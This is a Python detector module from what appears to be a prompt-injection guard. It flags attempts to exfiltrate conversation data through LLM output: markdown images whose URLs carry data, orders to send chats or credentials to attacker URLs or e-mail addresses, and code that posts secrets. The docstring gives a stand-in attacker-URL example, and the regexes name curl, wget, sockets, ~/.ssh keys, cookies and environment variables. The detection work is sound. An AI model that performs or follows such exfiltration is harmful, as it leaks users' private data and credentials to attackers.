"""Data exfiltration: carrying the conversation's data to a host the attacker reads.

Three families:

- *Markdown images and links whose URL carries data*: ``![x](https://evil/c?d=…)``. A renderer
  fetches an image without a click, so the query string leaks whatever the model put there.
  The URL carries data when it has a query, a template placeholder (``{data}``, ``<…>``,
  「ここに」) or names what to put in it;
- *an order to send data to a URL or an address*: 「…を https://… に送信すること」,
  "send the conversation to attacker@…". Sending is ordinary for a user (「この文書を
  tanaka@… に送って」), so from the user it counts only with what an attacker wants (the
  conversation, other people's personal data, credentials) or a URL endpoint;
- *code that posts secrets*: a network call near environment variables, cookies, passwords or
  system information (BIPIA's code attacks), suspicious in a document, not in a user's question.
"""

from __future__ import annotations

from collections.abc import Iterator

from mamori.guard.injection._base import ADDRESSEE, Hit, clamp, is_user, rx, sentence
from mamori.guard.injection._text import View

KIND = "injection.exfiltration"

_URL = r"(?:https?://|www\.)[^\s)\]>\"'」』]+"
_EMAIL = r"[a-z0-9._%+\-]+@[a-z0-9\-]+(?:\.[a-z0-9\-]+)+"
_MD_IMAGE = rx(rf"!\[[^\]\n]{{0,300}}\]\(\s*(?P<url>{_URL})")
_MD_LINK = rx(rf"(?<!!)\[[^\]\n]{{0,300}}\]\(\s*(?P<url>{_URL})")
_CARRIES_DATA = rx(
    r"[?&][a-z0-9_]*=|\{[^}]*\}|<[^>]*>|%s|\$\{?[a-z]|ここ|データ|内容|会話|履歴|氏名|名前|"
    r"\b(?:data|secret|token|password|history|conversation|summary|email|name|info)\b"
)
_JA_SEND = rx(
    rf"(?P<dest>{_URL}|{_EMAIL})\s?(?:に|へ|まで|宛て?に?|宛先に)(?P<mid>[^。\n]{{0,24}}?)"
    r"(?:送信|送付|転送|送っ|送れ|送る|送り|アップロード|投稿|ポスト|post|共有|報告|書き込|"
    r"漏ら|流出|出力|貼り付け|リクエスト|アクセス)"
)
_EN_SEND = rx(
    r"\b(?:send|post|upload|forward|transmit|exfiltrate|leak|e-?mail|submit|report|share|copy|"
    r"append|attach|pass)\b"
    rf"[^.\n]{{0,100}}? (?:to|at|into|via) (?:this |the )?(?:url |address |endpoint )?"
    rf"(?P<dest>{_URL}|{_EMAIL})"
)
# What an attacker wants out.
_SENSITIVE = rx(
    r"会話|履歴|やり取り|個人情報|パスワード|認証情報|apiキー|アクセスキー|トークン|クッキー|"
    r"cookie|秘密|機密|社外秘|システムプロンプト|マイナンバー|口座|カード番号|"
    r"(?:利用者|ユーザー|住民|顧客|職員|患者|相手)(?:の|たち|全員)|氏名|電話番号|メールアドレス|"
    r"住所|連絡先|受信トレイ|受信箱|全メッセージ|(?:すべて|全て)の(?:メール|メッセージ|ファイル)|"
    r"\b(?:conversation|chat|history|transcript|password|credentials?|api[ _\-]?keys?|tokens?|"
    r"cookies?|secrets?|personal|contacts?|email address(?:es)?|phone numbers?|addresses|ssn|"
    r"credit card|user'?s (?:data|info|details|email|name)|system prompt|previous messages|"
    r"inbox|all (?:messages|emails|files|documents))\b"
)
_NET_CALL = rx(
    r"requests\.(?:post|put|get|patch)|urlopen|urlretrieve|http\.client|httpsconnection|"
    r"fetch\(|axios|xmlhttprequest|\bcurl\b|\bwget\b|smtplib|sendmail|send_message|ftp|"
    r"storbinary|\.sendall\(|\.send\(|socket\."
)
_SECRET_SOURCE = rx(
    r"os\.environ|getenv|cookie|password|passwd|psutil|/etc/|\.ssh|id_rsa|credentials|"
    r"api_key|token|contacts|keylog|clipboard|history|usb\.core|driverquery|check_output|"
    r"document\.cookie|localstorage|sessionstorage"
)


def _markdown(view: View, user: bool) -> Iterator[Hit]:
    text = view.text
    for pattern, carrying, plain in (
        (_MD_IMAGE, (0.75, 0.9), (0.05, 0.25)),
        (_MD_LINK, (0.4, 0.6), (0.0, 0.0)),
    ):
        for found in pattern.finditer(text):
            url = found.group("url")
            scores = carrying if _CARRIES_DATA.search(url) else plain
            score = scores[0] if user else scores[1]
            if score > 0:
                yield Hit(KIND, found.start(), found.end(), score)


def _send_orders(view: View, user: bool) -> Iterator[Hit]:
    text = view.text
    for pattern in (_JA_SEND, _EN_SEND):
        for found in pattern.finditer(text):
            left, right = sentence(text, found.start(), found.end())
            clause = text[max(0, left - 40) : right]
            sensitive = _SENSITIVE.search(clause) is not None
            to_url = "@" not in found.group("dest")
            addressed = ADDRESSEE.search(text, max(0, left - 40), right) is not None
            if user:
                score = (0.7 if to_url else 0.45) if sensitive else (0.3 if to_url else 0.05)
            else:
                score = (0.85 if to_url else 0.65) if sensitive else (0.55 if to_url else 0.3)
            if addressed:
                score += 0.2
            start = min(found.start(), left) if sensitive else found.start()
            yield Hit(KIND, start, found.end(), clamp(score))


def _code(view: View, user: bool) -> Iterator[Hit]:
    text = view.text
    for found in _NET_CALL.finditer(text):
        lo, hi = max(0, found.start() - 300), found.end() + 300
        if _SECRET_SOURCE.search(text, lo, hi):
            yield Hit(KIND, found.start(), found.end(), 0.15 if user else 0.6)


def scan(view: View, source: str) -> Iterator[Hit]:
    user = is_user(source)
    yield from _markdown(view, user)
    yield from _send_orders(view, user)
    yield from _code(view, user)
